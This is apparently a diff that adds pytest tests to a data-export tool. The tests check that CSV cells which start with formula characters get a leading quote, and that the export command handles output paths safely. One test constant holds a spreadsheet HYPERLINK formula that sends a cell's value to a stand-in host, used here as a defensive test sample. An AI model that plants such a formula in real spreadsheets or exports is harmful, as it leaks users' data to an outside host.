@@ -9,6 +9,9 @@ import decimal
 import gzip
 import io
 import os
+import stat
+import subprocess
+import sys
 import tempfile
 from pathlib import Path
 
@@ -22,8 +25,11 @@ from conftest_web import (  # noqa: F401
     client_fixture,
     empty_project_fixture,
     project_fixture,
+    publish_rows,
     synthetic_rows,
 )
+from hypothesis import given
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from headwater.errors import ExitCode, HeadwaterError
@@ -105,6 +111,87 @@ def test_csv_streams_one_chunk_per_batch_and_writes_every_row() -> None:
     assert out.getvalue() == b"".join(chunks)
 
 
+# --- formulas: a cell a spreadsheet would run is written as text ------------------------------------
+
+FORMULA_STARTS = "=+-@\t\r"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def neutral(text: str) -> str:
+    """OWASP's rule for CSV injection: a cell starting with a formula character gets a leading quote."""
+    return "'" + text if text[:1] in tuple(FORMULA_STARTS) else text
+
+
+def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_quote() -> None:
+    sql = """SELECT * FROM (VALUES
+        (1, '=1+1', -5, -1.5, '-5'), (2, '+33 6 12', 0, 2.0, '@SUM(A1)'), (3, chr(9) || 'tab', 7, 1e300, chr(13) || 'cr'),
+        (4, 'a=b', -3, -0.0, NULL), (5, '', NULL, NULL, ' =x')) t(id, name, delta, ratio, note)"""
+    rows = csv_rows(b"".join(export.csv_chunks(reader_of(sql))))
+    assert [r[1] for r in rows[1:]] == ["'=1+1", "'+33 6 12", "'\ttab", "a=b", ""]
+    assert [r[4] for r in rows[1:]] == ["'-5", "'@SUM(A1)", "'\rcr", "", " =x"]  # text that looks like a number is text
+    assert [r[2] for r in rows[1:]] == ["-5", "0", "7", "-3", ""]  # numbers stay numbers: a spreadsheet reads -5 as -5
+    assert rows[1][3] == "-1.5"
+    out = io.BytesIO()
+    export.write(reader_of(sql), "csv", out)
+    assert out.getvalue() == b"".join(export.csv_chunks(reader_of(sql)))  # `headwater export` writes the same
+
+
+def test_raw_csv_keeps_every_value_as_it_is() -> None:
+    sql = "SELECT '=1+1' AS \"=cmd\", -5 AS n"
+    assert csv_rows(b"".join(export.csv_chunks(reader_of(sql), raw=True))) == [["=cmd", "n"], ["=1+1", "-5"]]
+    out = io.BytesIO()
+    export.write(reader_of(sql), "csv", out, raw=True)
+    assert csv_rows(out.getvalue()) == [["=cmd", "n"], ["=1+1", "-5"]]
+
+
+def test_blobs_are_neutralised_as_the_text_they_are_written_as() -> None:
+    rows = csv_rows(b"".join(export.csv_chunks(reader_of("SELECT CAST('=cmd' AS BLOB) AS b UNION ALL SELECT CAST('ok' AS BLOB)"))))
+    assert sorted(r[0] for r in rows[1:]) == ["'=cmd", "ok"]
+
+
+def test_headers_enums_and_every_batch_are_neutralised() -> None:
+    sql = "SELECT CAST(['=a', 'b'][1 + i % 2] AS ENUM ('=a', 'b')) AS kind, '@' || i AS label, i AS \"=total\" FROM range(2500) t(i)"
+    rows = csv_rows(b"".join(export.csv_chunks(reader_of(sql, batch_rows=1000))))
+    assert rows[0] == ["kind", "label", "'=total"]  # a header is a cell too (pivot headers come from data)
+    assert {r[0] for r in rows[1:]} == {"'=a", "b"}
+    assert all(r[1] == f"'@{n}" for n, r in enumerate(rows[1:])) and len(rows) == 2501
+
+
+@given(st.lists(st.text(), min_size=1, max_size=20))
+def test_neutralising_is_exactly_owasps_rule(texts: list[str]) -> None:
+    schema = pa.schema([("t", pa.string())])
+    batch = pa.record_batch([pa.array(texts)], schema=schema)
+    got = export.neutralised(pa.RecordBatchReader.from_batches(schema, [batch])).read_all().column("t").to_pylist()
+    assert got == [neutral(t) for t in texts]
+
+
+def test_xlsx_keeps_formula_text_as_text() -> None:
+    out = io.BytesIO()
+    export.write(reader_of(f"SELECT {export_literal(HYPERLINK)} AS name, '+1' AS phone"), "xlsx", out)
+    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
+    cells = [book.active.cell(2, 1), book.active.cell(2, 2)]
+    assert [c.value for c in cells] == [HYPERLINK, "+1"] and [c.data_type for c in cells] == ["s", "s"]  # strings, not formulas
+
+
+def export_literal(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
+
+
+NESTED = """SELECT i AS id, [i, i + 1] AS pair, {'a': i, 'b': '=x'} AS rec, MAP {'k': i} AS m, to_days(CAST(i AS INTEGER)) AS span,
+    [['-a']] AS deep, CAST(NULL AS INTEGER[]) AS nothing FROM range(3) t(i)"""
+
+
+def test_lists_structs_maps_and_intervals_are_written_as_duckdb_text() -> None:
+    """pyarrow's CSV writer has no form for them (a download died with 'Unsupported Type'): they
+    are written as DuckDB writes them as text, and neutralised like any text."""
+    rows = csv_rows(b"".join(export.csv_chunks(reader_of(NESTED, batch_rows=2))))
+    assert rows[0] == ["id", "pair", "rec", "m", "span", "deep", "nothing"]
+    assert rows[2] == ["1", "[1, 2]", "{'a': 1, 'b': '=x'}", "{k=1}", "1 day", "[[-a]]", ""]
+    out = io.BytesIO()
+    assert export.write(reader_of(NESTED), "csv", out) == 3 and csv_rows(out.getvalue()) == rows
+    assert csv_rows(b"".join(export.csv_chunks(reader_of("SELECT ['=1'] AS l", batch_rows=2), raw=True)))[1] == ["['=1']"]
+
+
 def test_gzip_chunks_decompress_to_the_csv() -> None:
     plain = b"".join(export.csv_chunks(reader_of(MIXED)))
     assert gzip.decompress(b"".join(export.gzip_chunks(export.csv_chunks(reader_of(MIXED))))) == plain
@@ -113,8 +200,8 @@ def test_gzip_chunks_decompress_to_the_csv() -> None:
 # --- XLSX ------------------------------------------------------------------------------------------
 
 
-def test_xlsx_read_back_equals_the_csv() -> None:
-    expected = csv_rows(b"".join(export.csv_chunks(reader_of(MIXED))))
+def test_xlsx_read_back_equals_the_raw_csv() -> None:
+    expected = csv_rows(b"".join(export.csv_chunks(reader_of(MIXED), raw=True)))
     out = io.BytesIO()
     assert export.write(reader_of(MIXED), "xlsx", out) == 50
     got = sheets(out.getvalue())
@@ -267,6 +354,67 @@ def test_injection_in_download_filters(client, value: str) -> None:
     assert len(csv_rows(client.get("/tables/flake_rate_weekly.csv").content)) == len(synthetic_rows()) + 1
 
 
+def test_downloads_neutralise_formulas_unless_asked_for_raw(empty_project, tmp_path: Path) -> None:
+    from conftest_web import logged_in_client
+
+    from headwater.cli.main import app
+
+    publish_rows(empty_project, synthetic_rows(organizers=[HYPERLINK, "Ana"]), "run-000001")
+    with logged_in_client(empty_project) as client:
+        for url in ("/tables/flake_rate_weekly.csv", f"{DASH}/tables/flake_rate_weekly.csv"):
+            assert {r[2] for r in csv_rows(client.get(url).content)[1:]} == {"'" + HYPERLINK, "Ana"}, url
+        assert {r[2] for r in csv_rows(client.get("/tables/flake_rate_weekly.csv", params={"hw_raw": "1"}).content)[1:]} == {HYPERLINK, "Ana"}
+        filtered = client.get(f"{DASH}/tables/flake_rate_weekly.csv", params={"organizer": HYPERLINK, "hw_raw": "1"})
+        assert filtered.status_code == 200 and {r[2] for r in csv_rows(filtered.content)[1:]} == {HYPERLINK}  # hw_raw is not a filter
+        xlsx = sheets(client.get("/tables/flake_rate_weekly.xlsx").content)["data"]
+        assert {r[2] for r in xlsx[1:]} == {HYPERLINK, "Ana"}  # XLSX cells are strings: nothing to neutralise
+        web = client.get("/tables/flake_rate_weekly.csv").content
+    runner = CliRunner()
+    target = tmp_path / "out.csv"
+    assert runner.invoke(app, ["export", "flake_rate_weekly", "-p", str(empty_project.root), "-o", str(target)]).exit_code == 0
+    assert target.read_bytes() == web
+    raw = runner.invoke(app, ["export", "flake_rate_weekly", "-p", str(empty_project.root), "-o", str(target), "--raw"])
+    assert raw.exit_code == 0, raw.output
+    assert {r[2] for r in csv_rows(target.read_bytes())[1:]} == {HYPERLINK, "Ana"}
+
+
+CATALOG_VIEWS = ["pragma_database_list", "sqlite_master", "sqlite_schema", "duckdb_tables", "duckdb_settings", "duckdb_columns", "information_schema.tables"]
+
+
+@pytest.mark.parametrize("name", CATALOG_VIEWS)
+def test_only_published_tables_are_tables(client, project, name: str) -> None:
+    from headwater.cli.main import app
+
+    for url in (f"/tables/{name}.csv", f"/tables/{name}.xlsx", f"{DASH}/tables/{name}.csv"):
+        response = client.get(url)
+        assert response.status_code == 404 and "No published table" in response.text, url
+        assert str(project.root) not in response.text
+    result = CliRunner().invoke(app, ["export", name, "-p", str(project.root)])
+    assert isinstance(result.exception, HeadwaterError) and result.exception.exit_code == ExitCode.USER_ERROR
+    assert "Published tables: flake_rate_weekly" in result.exception.render() and str(project.root) not in result.stdout
+
+
+def test_a_published_table_with_nested_columns_downloads_whole(empty_project, tmp_path: Path) -> None:
+    from conftest_web import logged_in_client
+
+    from headwater.warehouse import Warehouse
+
+    warehouse = Warehouse(empty_project.root, empty_project.config.warehouse)
+    con = warehouse.connect_build()
+    try:
+        con.execute(f"CREATE TABLE nested AS {NESTED}")
+        warehouse.switch(warehouse.write_snapshot(con, "run-000001", {"nested": "main.nested"}, []))
+    finally:
+        con.close()
+    with logged_in_client(empty_project) as client:
+        response = client.get("/tables/nested.csv")
+        assert response.status_code == 200 and csv_rows(response.content)[3][1] == "[2, 3]"
+        assert len(sheets(client.get("/tables/nested.xlsx").content)["data"]) == 4
+    result = CliRunner().invoke(__import__("headwater.cli.main", fromlist=["app"]).app, ["export", "nested", "-p", str(empty_project.root), "-o", str(tmp_path / "n.csv")])
+    assert result.exit_code == 0, result.output
+    assert (tmp_path / "n.csv").read_bytes() == response.content
+
+
 def test_download_errors(client) -> None:
     assert client.get("/tables/nope.xlsx").status_code == 404
     assert client.get(f"{DASH}/tables/nope.csv").status_code == 404
@@ -326,3 +474,82 @@ def test_cli_export_filter_mistakes_are_user_errors(project, tmp_path: Path, ext
     assert isinstance(error, HeadwaterError) and error.exit_code == ExitCode.USER_ERROR, result.output
     assert message in error.render()
     assert not target.exists() and not (tmp_path / "out.csv.partial").exists()
+
+
+# --- `headwater export -o`: regular files only ---------------------------------------------------------
+
+
+def cli_export(project, *args: str | Path) -> subprocess.CompletedProcess[bytes]:
+    """`headwater export flake_rate_weekly ARGS` as a process of its own (the error funnel included)."""
+    env = {**os.environ, "NO_COLOR": "1", "HEADWATER_NO_DAEMON": "1"}
+    command = [sys.executable, "-m", "headwater.cli.main", "export", "flake_rate_weekly", "-p", str(project.root), *map(str, args)]
+    return subprocess.run(command, env=env, capture_output=True, timeout=120)
+
+
+def assert_refused(result: subprocess.CompletedProcess[bytes], *words: str) -> None:
+    stderr = result.stderr.decode()
+    assert result.returncode == ExitCode.USER_ERROR, (result.returncode, stderr)
+    assert "Traceback" not in stderr and "Fix:" in stderr
+    for word in words:
+        assert word in " ".join(stderr.split()), stderr
+
+
+def test_export_to_dash_streams_to_standard_output(project, client) -> None:
+    result = cli_export(project, "-o", "-")
+    assert result.returncode == 0 and result.stdout == client.get("/tables/flake_rate_weekly.csv").content
+    xlsx = cli_export(project, "-o", "-", "-f", "xlsx")
+    assert xlsx.returncode == 0 and len(sheets(xlsx.stdout)["data"]) == len(synthetic_rows()) + 1
+    assert not (Path.cwd() / "-").exists()
+
+
+def test_export_refuses_what_is_not_a_regular_file(project, tmp_path: Path) -> None:
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    device_link = tmp_path / "null-link"
+    device_link.symlink_to("/dev/null")
+    dangling = tmp_path / "dangling"
+    dangling.symlink_to(tmp_path / "nowhere" / "x.csv")
+    for target in (fifo, device_link, tmp_path, Path("/dev/null")):
+        assert_refused(cli_export(project, "-o", target), "not a regular file")
+    assert stat.S_ISFIFO(fifo.lstat().st_mode) and device_link.is_symlink() and stat.S_ISCHR(Path("/dev/null").stat().st_mode)
+    assert_refused(cli_export(project, "-o", dangling), "does not exist")
+    assert dangling.is_symlink()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["dangling", "null-link", "pipe", "project"]  # no temporary file left
+
+
+def test_export_to_a_full_disk_says_so(project) -> None:
+    env = {**os.environ, "NO_COLOR": "1", "HEADWATER_NO_DAEMON": "1"}
+    with open("/dev/full", "wb") as full:
+        result = subprocess.run([sys.executable, "-m", "headwater.cli.main", "export", "flake_rate_weekly", "-p", str(project.root), "-o", "-"], env=env, stdout=full, stderr=subprocess.PIPE, timeout=120)
+    assert_refused(result, "Cannot write the export to standard output: the disk is full")
+
+
+def test_export_into_a_missing_folder_is_a_user_error(project, tmp_path: Path) -> None:
+    assert_refused(cli_export(project, "-o", tmp_path / "nonexistent" / "dir" / "x.csv"), "does not exist")
+    plain = tmp_path / "file"
+    plain.write_text("x")
+    assert_refused(cli_export(project, "-o", plain / "x.csv"), "not a folder")
+    assert plain.read_text() == "x"
+
+
+def test_export_through_a_symlink_writes_its_target(project, client, tmp_path: Path) -> None:
+    real = tmp_path / "data" / "report.csv"
+    real.parent.mkdir()
+    real.write_text("old")
+    real.chmod(0o640)
+    link = tmp_path / "report.csv"
+    link.symlink_to(Path("data") / "report.csv")
+    result = cli_export(project, "-o", link)
+    assert result.returncode == 0, result.stderr
+    assert link.is_symlink() and real.read_bytes() == client.get("/tables/flake_rate_weekly.csv").content
+    assert stat.S_IMODE(real.stat().st_mode) == 0o640  # the file keeps its mode, as an editor's save does
+    assert sorted(p.name for p in real.parent.iterdir()) == ["report.csv"]  # the temporary file was renamed over it
+
+
+def test_export_replaces_a_regular_file_atomically(project, client, tmp_path: Path) -> None:
+    target = tmp_path / "out.csv"
+    target.write_text("old")
+    before = target.stat().st_ino
+    assert cli_export(project, "-o", target).returncode == 0
+    assert target.read_bytes() == client.get("/tables/flake_rate_weekly.csv").content and target.stat().st_ino != before
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "project") == ["out.csv"]
